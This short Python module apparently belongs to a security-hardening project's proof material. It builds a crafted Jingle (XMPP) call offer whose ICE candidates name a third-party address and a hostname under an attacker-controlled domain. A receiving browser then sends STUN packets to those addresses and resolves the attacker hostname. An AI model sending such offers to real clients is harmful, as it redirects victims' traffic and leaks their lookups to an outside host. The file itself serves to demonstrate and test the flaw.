"""A call of Mallory's (Jingle, XEP-0166 and 0176) that names addresses of others as her own.

In a call without bridge, anybody may say where the other browser is to send its STUN packets; host names in there are
looked up, too. No Content-Security-Policy covers that.
"""

from __future__ import annotations

from hardener.proof.evidence.attacker_pages import EVIL

NOBODY = "203.0.113.9"  # an address for documentation (RFC 5737)
NAME = f"ice.{EVIL}"


def _candidate(address: str) -> str:
    return (
        "<candidate foundation='1' component='1' protocol='udp' priority='1' generation='0' type='host'"
        f" ip='{address}' port='443'/>"
    )


def _content(name: str, media: str, payload: str) -> str:
    return (
        f"<content creator='initiator' name='{name}' senders='both'>"
        f"<description xmlns='urn:xmpp:jingle:apps:rtp:1' media='{media}'>{payload}<rtcp-mux/></description>"
        "<transport xmlns='urn:xmpp:jingle:transports:ice-udp:1' ufrag='abcd' pwd='0123456789abcdef01234567'>"
        "<fingerprint xmlns='urn:xmpp:jingle:apps:dtls:0' hash='sha-256' setup='actpass'>"
        f"{':'.join(['AB'] * 32)}</fingerprint>{_candidate(NOBODY)}{_candidate(NAME)}</transport></content>"
    )


# Sound and picture, as the client offers them itself: it answers no less.
CALL = (
    _content("0", "audio", "<payload-type id='111' name='opus' clockrate='48000' channels='2'/>")
    + _content("1", "video", "<payload-type id='100' name='VP8' clockrate='90000'/>")
    + "<group xmlns='urn:xmpp:jingle:apps:grouping:0' semantics='BUNDLE'><content name='0'/><content name='1'/></group>"
)
